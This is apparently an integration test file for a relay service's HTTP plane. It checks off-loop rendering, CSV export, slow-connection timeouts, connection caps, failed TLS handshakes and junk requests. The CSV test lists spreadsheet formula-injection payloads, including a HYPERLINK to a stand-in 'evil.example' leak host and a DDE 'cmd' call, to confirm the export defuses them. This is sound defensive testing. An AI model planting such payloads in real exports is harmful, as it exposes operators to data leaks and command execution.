"""The HTTP plane under load and abuse: large bodies rendered off the event loop, CSV cells
a spreadsheet will not run, slow and surplus connections, failed TLS handshakes, junk."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import ssl
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import aiohttp
import orjson
import pytest
import trustme

from pingpong_relay.app.relay import Relay
from pingpong_relay.http import responses
from pingpong_relay.settings import Settings
from pingpong_relay.telemetry.metrics import RelayMetrics
from tests.integration.http_support import (
    closed_by_relay,
    headers_of,
    raw_exchange,
    status_of,
)
from tests.support import (
    Collector,
    RedisServer,
    RelayFactory,
    RelayProcess,
    assert_browser_headers,
    free_port,
)


# --- 6. Large bodies off the event loop ------------------------------------------------
async def test_metrics_and_large_json_are_rendered_off_the_event_loop(
    redis_server: RedisServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The relay in this process, so the test can see which thread renders.
    settings = Settings(
        port=free_port(),
        http_port=free_port(),
        redis_url=redis_server.url,
        redis_url_explicit=True,
    )
    loop_thread = threading.get_ident()
    threads: dict[str, set[int]] = {}

    def recording(name: str, render: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(*args: Any) -> Any:
            threads.setdefault(name, set()).add(threading.get_ident())
            return render(*args)

        return wrapper

    # Patched on the class before the relay exists: whoever holds the bound method
    # (the HTTP plane, the siblings' aggregation) renders through the recorder.
    monkeypatch.setattr(RelayMetrics, "render", recording("metrics", RelayMetrics.render))
    relay = Relay(settings)
    await relay.start()
    try:
        # Every JSON answer of the plane is encoded by responses.encode.
        monkeypatch.setattr(responses, "encode", recording("json", responses.encode))
        await redis_server.publish(b'{"type":"ping","latency":1,"source":"bot"}')
        url = f"http://127.0.0.1:{settings.http_port}"
        async with aiohttp.ClientSession() as session:
            for path in ("/metrics", "/bots", "/stats", "/alerts", "/history?limit=10"):
                threads.pop("json", None)
                async with session.get(url + path) as response:
                    assert response.status == 200, path
                name = "metrics" if path == "/metrics" else "json"
                assert threads.get(name), f"{path} rendered nothing"
                assert loop_thread not in threads[name], f"{path} rendered on the event loop"
    finally:
        await relay.stop()


# --- 7. CSV export ----------------------------------------------------------------------
async def test_csv_export_defuses_formulas_in_names_a_publisher_chose(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    # With a pattern as broad as '*', whoever can publish to Redis names the channel, and
    # the channel (and so the bot id) lands in the CSV an operator opens in a spreadsheet.
    relay = await start_relay(redis_server.url, "--channel-pattern", "*")
    # No spaces: the relay refuses channel names with whitespace (bad_channel).
    hostile = [
        '=HYPERLINK("http://evil.example/?leak","open_me")',
        "@SUM(1+1)*cmd|'/C_calc'!A0",
        "+1+cmd",
        "-2+3",
    ]
    for channel in hostile:
        payload = orjson.dumps({"type": "ping", "latency": 12.5, "timestamp": 1, "source": "b"})
        assert await redis_server.publish(payload, channel) == 1

    async def rows() -> list[list[str]]:
        while True:
            _, body = await relay.get("/history?format=csv&limit=100")
            parsed = list(csv.reader(io.StringIO(body.decode())))
            if len(parsed) == 1 + len(hostile):
                return parsed
            await asyncio.sleep(0.05)

    header, *lines = await asyncio.wait_for(rows(), 20)
    column = {name: i for i, name in enumerate(header)}
    assert {line[column["channel"]] for line in lines} == {"'" + c for c in hostile}
    assert {line[column["bot"]] for line in lines} == {f"'{c}/b" for c in hostile}
    for line in lines:
        assert line[column["latency"]] == "12.5"  # numbers stay numbers
        assert line[column["relay_ms"]].isdigit()
        assert line[column["source"]] == "b"


# --- 8. Slow requests and the connection cap --------------------------------------------
async def test_requests_whose_headers_never_finish_are_closed_and_counted(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    relay = await start_relay(redis_server.url, "--http-request-timeout", "1")
    slow = [await asyncio.open_connection("127.0.0.1", relay.http_port) for _ in range(5)]
    for _, writer in slow:
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        await writer.drain()
    # A kept-alive connection: the first request is answered, the next one stalls.
    reader, writer = await asyncio.open_connection("127.0.0.1", relay.http_port)
    writer.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    head = await reader.readuntil(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200")
    length = int(headers_of(head)["Content-Length"])
    await reader.readexactly(length)
    writer.write(b"GET /healthz HTTP/1.1\r\nHost: 1")
    slow.append((reader, writer))
    try:
        for reader, _ in slow:
            assert await closed_by_relay(reader) == b""
    finally:
        for _, writer in slow:
            writer.close()
    assert await relay.metric('pingpong_http_refused_total{reason="timeout"}') == 6
    logged = await relay.wait_for("http_refused")
    assert logged["reason"] == "timeout"


async def test_past_the_http_cap_a_connection_gets_503_and_websockets_are_unaffected(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    relay = await start_relay(
        redis_server.url, "--max-http-connections", "5", "--http-request-timeout", "60"
    )
    stalled = [await asyncio.open_connection("127.0.0.1", relay.http_port) for _ in range(5)]
    for _, writer in stalled:
        writer.write(b"GET / HTTP/1.1\r\n")
        await writer.drain()
    try:
        answer = await raw_exchange(
            relay.http_port, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
        )
        assert status_of(answer) == 503
        headers = headers_of(answer)
        assert headers["Retry-After"] == "5"
        assert_browser_headers(headers, "'none'", "503")
        assert orjson.loads(answer.partition(b"\r\n\r\n")[2])["error"] == "capacity"
        logged = await relay.wait_for(
            lambda r: r.get("event") == "http_refused" and r.get("reason") == "capacity"
        )
        assert logged["level"] == "WARNING"
        # WebSocket clients have their own budget, and the data port still answers.
        client = Collector()
        await client.connect(relay.ws_url)
        await relay.wait_for("client_connected")
        await client.close()
        status, body = await relay.get("/healthz", data_port=True)
        assert (status, orjson.loads(body)["status"]) == (200, "ok")
    finally:
        for _, writer in stalled:
            writer.close()

    async def served_again() -> None:  # the places are given back as the sockets close
        while True:
            with contextlib.suppress(aiohttp.ClientError):
                status, _ = await relay.get("/healthz")
                if status == 200:
                    return
            await asyncio.sleep(0.05)

    await asyncio.wait_for(served_again(), 20)
    assert await relay.metric('pingpong_http_refused_total{reason="capacity"}') >= 1


async def test_failed_and_stalled_tls_handshakes_do_not_keep_their_places(
    redis_server: RedisServer, start_relay: RelayFactory, tmp_path: Path
) -> None:
    ca = trustme.CA()
    cert = ca.issue_cert("127.0.0.1")
    cert.cert_chain_pems[0].write_to_path(str(tmp_path / "cert.pem"))
    cert.private_key_pem.write_to_path(str(tmp_path / "key.pem"))
    relay = await start_relay(
        redis_server.url,
        *("--tls-cert", str(tmp_path / "cert.pem"), "--tls-key", str(tmp_path / "key.pem")),
        *("--max-http-connections", "2", "--http-request-timeout", "1"),
    )
    # Connections in their handshake count against the cap (they hold descriptors)...
    stalled = await asyncio.open_connection("127.0.0.1", relay.http_port)
    garbage = [await asyncio.open_connection("127.0.0.1", relay.http_port) for _ in range(5)]
    for _, writer in garbage:  # plain text to a TLS port: the handshake fails at once
        writer.write(b"GET / HTTP/1.1\r\n\r\n")
    # ...and the stalled one is closed after the handshake timeout.
    assert await closed_by_relay(stalled[0]) == b""
    for _, writer in (stalled, *garbage):
        writer.close()
    client = ssl.create_default_context()
    ca.configure_trust(client)

    async def served_again() -> None:  # every place is given back, none leaks
        while True:
            with contextlib.suppress(aiohttp.ClientError):
                async with (
                    aiohttp.ClientSession() as session,
                    session.get(f"https://127.0.0.1:{relay.http_port}/healthz", ssl=client) as r,
                ):
                    if r.status == 200:
                        return
            await asyncio.sleep(0.1)

    await asyncio.wait_for(served_again(), 30)
    for _ in range(3):  # for good: the cap of 2 is free again
        await served_again()


async def test_junk_requests_are_refusals_counted_and_logged_once_not_tracebacks(
    relay: RelayProcess,
) -> None:
    junk = [
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nBad Header\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " + b"a" * 20_000 + b"\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: -1\r\n\r\n",
        b"GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nHost: 127.0.0.1\r\n\r\nzz\r\n",
    ]
    for request in junk:
        reader, writer = await asyncio.open_connection("127.0.0.1", relay.http_port)
        writer.write(request)
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 20)
        status_line = answer.split(b"\r\n", 1)[0]
        assert status_line.startswith(b"HTTP/1.")
        assert b" 400 " in status_line
        assert b"\r\nServer: pingpong-relay\r\n" in answer
        writer.close()
    refused = await relay.wait_for(
        lambda r: r.get("event") == "http_refused" and r.get("reason") == "bad_request"
    )
    assert refused["level"] == "WARNING"
    assert await relay.metric('pingpong_http_refused_total{reason="bad_request"}') == len(junk)
    # One line for the first, the rest summed up later: no traceback per request.
    assert not [r for r in relay.records if r.get("level") == "ERROR"]
    assert len(relay.events("http_refused")) == 1
    status, _ = await relay.get("/healthz")  # and the relay goes on serving
    assert status == 200
